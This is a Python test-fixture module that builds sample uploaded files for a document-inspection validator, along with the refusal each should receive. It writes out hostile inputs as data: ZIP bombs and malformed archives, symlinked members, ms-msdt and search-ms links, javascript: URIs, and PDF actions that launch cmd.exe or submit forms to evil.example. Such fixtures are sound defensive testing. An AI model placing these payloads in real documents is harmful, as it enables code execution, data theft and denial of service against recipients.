"""Sample files as users and attackers upload them: name, content and expected result."""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference

from gongkai.files.inspection.open_documents import MEDIA_TYPES

TYPES = "[Content_Types].xml"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
GOOD = ""


@dataclass(frozen=True)
class Sample:
    """One file: description, name, content, and the expected refusal code (empty: accepted)."""

    what: str
    name: str
    content: bytes
    code: str


def packed(
    members: dict[str, bytes], *, change: Callable[[zipfile.ZipInfo], None] | None = None
) -> bytes:
    """Make a ZIP; `change` alters the header of each member before it is written."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            if change:
                change(info)
            made.writestr(info, content)
    return out.getvalue()


def twice(name: str, *contents: bytes) -> bytes:
    """Make a ZIP in which one name occurs more than once."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for content in contents:
            made.writestr(name, content)
    return out.getvalue()


def docx(types: str = "", relations: str = "", **more: bytes) -> bytes:
    """Make a DOCX as word processors write it; `more` adds parts, with __ for / in their names."""
    members = {
        TYPES: f'<Types><Override PartName="/word/document.xml" ContentType="{MAIN}"/>{types}</Types>'.encode(),
        "_rels/.rels": b'<Relationships><Relationship Id="1" Type="a/officeDocument" Target="word/document.xml"/>'
        b"</Relationships>",
        "word/document.xml": "<w:document xmlns:w='w'><w:body><w:p>关于收费的通知</w:p></w:body></w:document>".encode(),
        "word/_rels/document.xml.rels": f"<Relationships>{relations}</Relationships>".encode(),
    }
    return packed(
        members
        | {name.replace("__", "/").replace("_dot_", "."): part for name, part in more.items()}
    )


def external(kind: str, target: str, mode: str = "External") -> str:
    """Return a relationship of a part to an external target."""
    return f'<Relationship Id="r9" Type="{OFFICE}{kind}" Target="{target}" TargetMode="{mode}"/>'


def xlsx() -> bytes:
    """Make a workbook with a chart, using openpyxl."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (["名称", "金额"], ["维修", 12], ["供水", 30]):
        sheet.append(row)
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    sheet.add_chart(chart, "D2")
    sheet["A5"].hyperlink = "https://www.example.gov.cn/"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """Make a PDF with a compressed page of text, and further objects."""
    page = zlib.compress(b"BT /F1 12 Tf (see /JavaScript and /Launch) Tj ET")
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(page), page),
        *objects,
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    places = []
    for number, part in enumerate(parts, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    return out + head + table + b"trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n" % (trailer, len(out))


def object_stream(
    text: bytes, words: bytes = b"/Filter /FlateDecode", content: bytes | None = None
) -> bytes:
    """Make an object stream, as newer PDF files contain it."""
    content = zlib.compress(b"9 0 " + text) if content is None else content
    return b"<< /Type /ObjStm /N 1 /First 4 /Length %d %s >>\nstream\n%s\nendstream" % (
        len(content),
        words,
        content,
    )


def png(tail: bytes = b"", comment: bytes = b"") -> bytes:
    """Make a PNG image of one grey pixel."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    text = chunk(b"tEXt", b"Comment\x00" + comment) if comment else b""
    head, body = (
        chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)),
        chunk(b"IDAT", zlib.compress(b"\x00\x7f")),
    )
    return b"\x89PNG\r\n\x1a\n" + head + text + body + chunk(b"IEND", b"") + tail


def jpeg(comment: bytes = b"") -> bytes:
    """Make a minimal JPEG file with a comment."""
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + segment
        + b"\xff\xda\x00\x02\x11\xff\xd9"
    )


def ole(*names: str, text: str = "", data: dict[str, bytes] | None = None) -> bytes:
    """Make an OLE document with these streams; `text` stands in the first, in UTF-16."""
    streams = dict.fromkeys(names, b"") | (data or {})
    if text:
        streams[names[0]] = text.encode("utf-16-le")
    # Streams of at least 4,096 bytes lie in sectors of their own; smaller ones would be packed.
    contents = [
        one.ljust(-(-max(4_096, len(one)) // 512) * 512, b"\x00") for one in streams.values()
    ]
    folders = -(-(len(streams) + 1) // 4)
    used = folders + sum(len(one) // 512 for one in contents)
    tables = 1
    while tables * 128 < used + tables:
        tables += 1
    chain = [0xFFFFFFFD] * tables
    starts = []
    for count in [folders, *(len(one) // 512 for one in contents)]:
        starts.append(len(chain))
        chain += [*range(len(chain) + 1, len(chain) + count), 0xFFFFFFFE]
    chain += [0xFFFFFFFF] * (tables * 128 - len(chain))

    def entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        head = raw.ljust(64, b"\x00") + struct.pack("<HBB", len(raw), kind, 1)
        links = struct.pack("<III", 0xFFFFFFFF, right, child)
        return head + links + bytes(36) + struct.pack("<IQ", start, size)

    directory = entry("Root Entry", 5, 0xFFFFFFFF, 1 if streams else 0xFFFFFFFF, 0xFFFFFFFE, 0)
    for number, (name, content) in enumerate(zip(streams, contents, strict=True), start=1):
        right = number + 1 if number < len(streams) else 0xFFFFFFFF
        directory += entry(name, 2, right, 0xFFFFFFFF, starts[number], len(content))
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    head += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, tables, starts[0], 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    head += struct.pack("<109I", *range(tables), *([0xFFFFFFFF] * (109 - tables)))
    return b"".join(
        [
            head,
            struct.pack(f"<{len(chain)}I", *chain),
            directory.ljust(folders * 512, b"\x00"),
            *contents,
        ]
    )


def ofd(**more: bytes) -> bytes:
    """Make an official document in the national format (OFD)."""
    members = {
        "OFD.xml": b"<ofd:OFD xmlns:ofd='o'/>",
        "Doc_0/Document.xml": b"<ofd:Document xmlns:ofd='o'/>",
    }
    return packed(members | {name.replace("__", "/"): part for name, part in more.items()})


def flagged(info: zipfile.ZipInfo) -> None:
    """Make a member a symbolic link."""
    info.create_system, info.external_attr = 3, 0o120777 << 16


def patched(archive: bytes, *changes: tuple[int, bytes], sign: bytes = b"PK\x01\x02") -> bytes:
    """Overwrite bytes of the first record with this signature, by their offset in it."""
    out, at = bytearray(archive), archive.index(sign)
    for place, value in changes:
        out[at + place : at + place + len(value)] = value
    return bytes(out)


def encrypted(archive: bytes) -> bytes:
    """Mark the first member as encrypted."""
    return patched(archive, (8, b"\x01\x00"))


def with_understated_size(content: bytes) -> bytes:
    """Declare a smaller size with a matching checksum, which `zipfile` would accept."""
    archive = packed({"a.txt": content})
    said = struct.pack("<I", 10)
    archive = patched(archive, (16, struct.pack("<I", zlib.crc32(content[:10]))), (24, said))
    return patched(
        archive, (14, struct.pack("<I", zlib.crc32(content[:10]))), (22, said), sign=b"PK\x03\x04"
    )


def overlapping() -> bytes:
    """Make a ZIP in which two names share one compressed member."""
    archive = packed({"a.txt": b"x" * 500, "b.txt": b"x" * 500})
    second = archive.rindex(b"PK\x01\x02")
    return archive[: second + 42] + struct.pack("<I", 0) + archive[second + 46 :]


def with_unnamed_member() -> bytes:
    """Remove a member from the central directory but keep its bytes."""
    archive = packed({"a.txt": b"first", "evil.txt": b"hidden " * 20, "z.txt": b"last"})
    start = archive.index(b"PK\x01\x02")
    second = archive.index(b"PK\x01\x02", start + 4)
    third = archive.index(b"PK\x01\x02", second + 4)
    end = archive.index(b"PK\x05\x06")
    table = archive[start:second] + archive[third:end]
    return (
        archive[:start]
        + table
        + b"PK\x05\x06\0\0\0\0"
        + struct.pack("<HHIIH", 2, 2, len(table), start, 0)
    )


def with_tail_in_member() -> bytes:
    """Extend a compressed member by bytes after the end of its data."""
    archive = packed({"a.txt": b"x" * 100})
    table = archive.index(b"PK\x01\x02")
    size = struct.unpack_from("<I", archive, 18)[0] + 8
    archive = archive[:table] + b"tailtail" + archive[table:]
    archive = archive[:-6] + struct.pack("<I", table + 8) + archive[-2:]
    archive = patched(archive, (20, struct.pack("<I", size)))
    return patched(archive, (18, struct.pack("<I", size)), sign=b"PK\x03\x04")


def field(*pieces: str, simple: bool = False) -> bytes:
    """Make the text of a document with a field, whose code is written in these pieces."""
    if simple:
        body = f'<w:fldSimple w:instr="{"".join(pieces)}"/>'
    else:
        runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
        body = (
            f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>点击</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )
    return f"<w:document xmlns:w='w'><w:body><w:p>{body}</w:p></w:body></w:document>".encode()


def nested_field(outer: str, inner: str) -> bytes:
    """Make the text of a document with a field inside a field."""

    def piece(kind: str) -> str:
        return f'<w:fldChar w:fldCharType="{kind}"/>'

    body = (
        piece("begin")
        + f"<w:instrText>{outer}</w:instrText>"
        + piece("begin")
        + f"<w:instrText>{inner}</w:instrText>"
        + piece("end")
        + piece("separate")
        + piece("end")
    )
    return f"<w:document xmlns:w='w'>{body}</w:document>".encode()


def with_text(text: bytes) -> bytes:
    """Make a document with this XML as its text."""
    return docx(word__document_dot_xml=text)


def sheet(formula: str) -> bytes:
    """Make a workbook with a formula."""
    cell = f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
    return packed(
        {TYPES: b"<Types/>", "xl/workbook.xml": b"<w/>", "xl/worksheets/sheet1.xml": cell.encode()}
    )


def record(kind: int, content: bytes) -> bytes:
    """Make a record of an old sheet."""
    return struct.pack("<HH", kind, len(content)) + content


def moniker(address: str) -> bytes:
    """Make the record of a link in an old sheet."""
    raw = address.encode("utf-16-le") + b"\x00\x00"
    return record(
        0x1B8,
        bytes(32)
        + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
        + struct.pack("<I", len(raw))
        + raw,
    )


def packed_pdf(*objects: bytes, typed: bool = True) -> bytes:
    """Make a PDF whose objects, from number 1 on, are all in one object stream."""
    places, text = [], b""
    for number, one in enumerate(objects, start=1):
        places.append(b"%d %d" % (number, len(text)))
        text += one + b" "
    head = b" ".join(places) + b" "
    content = zlib.compress(head + text)
    kind = b"/Type/ObjStm" if typed else b""
    out = b"%PDF-1.5\n"
    stream_at = len(out)
    number = len(objects) + 1
    out += b"%d 0 obj\n<<%s/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n" % (
        number,
        kind,
        len(objects),
        len(head),
        len(content),
    )
    out += content + b"\nendstream\nendobj\n"
    table_at = len(out)
    rows = struct.pack(">BIH", 0, 0, 65535)
    rows += b"".join(struct.pack(">BIH", 2, number, index) for index in range(len(objects)))
    rows += struct.pack(">BIH", 1, stream_at, 0) + struct.pack(">BIH", 1, table_at, 0)
    table = zlib.compress(rows)
    out += (
        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>\nstream\n"
        % (
            number + 1,
            number + 2,
            len(table),
        )
    )
    return out + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table_at


def page_with(action: bytes, *, typed: bool = True) -> bytes:
    """Make a PDF with all objects packed, whose page opens with this action."""
    return packed_pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<<>>>>",
        action,
        typed=typed,
    )


def archive_of_bombs(count: int) -> bytes:
    """Make a small archive of PDF files whose object streams unpack to much more."""
    bomb = pdf(object_stream(b"0" * (10 << 20)))
    return packed({f"{number}.pdf": bomb for number in range(count)})


UNSAFE_LINKS = (
    "ms-msdt:/id PCWDiagnostic",
    "search-ms:query=a",
    "ms-officecmd:{}",
    "ms-appinstaller:?source=https://evil.example/a",
    "java&#9;script:alert(1)",
    " javascript:alert(1)",
    "vbscript:a",
    "file:///C:/a.exe",
    "ftp://evil.example/a",
    "\\\\host\\share\\a.docx",
    "//host/share/a.docx",
    "%5C%5Chost/share",
)
UNSAFE_ACTIONS = (
    ("a script", b"<</S/JavaScript/JS(app.alert\\(1\\))>>", "pdf-script"),
    ("a program", b"<</S/Launch/F(cmd.exe)>>", "pdf-launch"),
    (
        "a form that is sent",
        b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>",
        "pdf-submit",
    ),
    ("data from elsewhere", b"<</S/ImportData/F(a.fdf)>>", "pdf-submit"),
    (
        "a document on another computer",
        b"<</S/GoToR/F(\\\\\\\\host\\\\a.pdf)/D[0/Fit]>>",
        "file-external",
    ),
    (
        "a document by address",
        b"<</S/GoToR/F<</Type/Filespec/UF(file://host/a.pdf)>>/D[0/Fit]>>",
        "file-external",
    ),
    ("a link to a program", b"<</S/URI/URI(ms-msdt:/id)>>", "file-link"),
    ("a link to a script with a tab", b"<</S/URI/URI(java\\tscript:alert\\(1\\))>>", "file-link"),
    ("a link to another computer", b"<</S/URI/URI(\\\\\\\\host\\\\share)>>", "file-link"),
    (
        "a link in UTF-16",
        b"<</S/URI/URI<FEFF" + "search-ms:a".encode("utf-16-be").hex().encode() + b">>>",
        "file-link",
    ),
    ("a second action", b"<</S/URI/URI(https://a.cn)/Next<</S/Launch>>>>", "pdf-launch"),
)


PROGRAM = b"MZ\x90\x00\x03" + b"\x00" * 60
TEXT_ZIP = packed({"a.txt": b"hello"})
IN_A_SHEET = docx(word__embeddings__Sheet1_dot_xlsx=xlsx())


def open_document(ending: str, kind: str) -> bytes:
    """Make a file of OpenDocument with an empty body of a kind."""
    space = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    body = f"<office:body><office:{kind}/></office:body>"
    content = f'<office:document-content xmlns:office="{space}">{body}</office:document-content>'
    return packed({"mimetype": MEDIA_TYPES[ending].encode(), "content.xml": content.encode()})
